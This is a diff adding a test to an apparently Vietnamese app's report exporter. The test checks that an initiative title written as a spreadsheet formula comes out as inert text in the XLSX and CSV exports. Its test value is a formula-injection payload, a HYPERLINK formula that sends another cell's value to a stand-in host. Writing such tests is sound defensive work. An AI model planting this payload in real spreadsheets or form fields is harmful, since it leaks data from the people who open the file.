@@ -117,6 +117,20 @@ async def test_every_report_opens_in_excel(app: App, clock: ManualClock, scored:
     assert out.rows > 0 and all(ws.max_row >= 4 for ws in book.worksheets[:1])
 
 
+async def test_a_title_typed_as_a_formula_is_exported_as_inert_text(
+        app: App, clock: ManualClock, federation: Federation) -> None:
+    typed = '=HYPERLINK("http://x/?"&N4,"Xem chi tiết")'
+    await add_initiatives(app, federation, "0900000003", 1, title=typed)
+    sheet = load_workbook(io.BytesIO((await produce(app, clock, kind="initiatives",
+                                                    fmt="xlsx")).data)).active
+    assert [c.value for c in sheet[3]][6] == "Tên sáng kiến"
+    assert (sheet["G4"].value, sheet["G4"].data_type, sheet["N4"].value) == (
+        typed, "s", "0900000003")
+    rows = list(csv.reader(io.StringIO((await produce(app, clock, kind="initiatives",
+                                                      fmt="csv")).data)))
+    assert (rows[1][6], rows[1][13]) == ("'" + typed, "0900000003")
+
+
 def test_card_links_expire_and_refuse_tampering(tmp_path: Path, clock: ManualClock) -> None:
     links = CardLinks(tmp_path, "secret", timedelta(hours=1), "https://bot.example")
     card = tmp_path / "xephang-AB12.png"
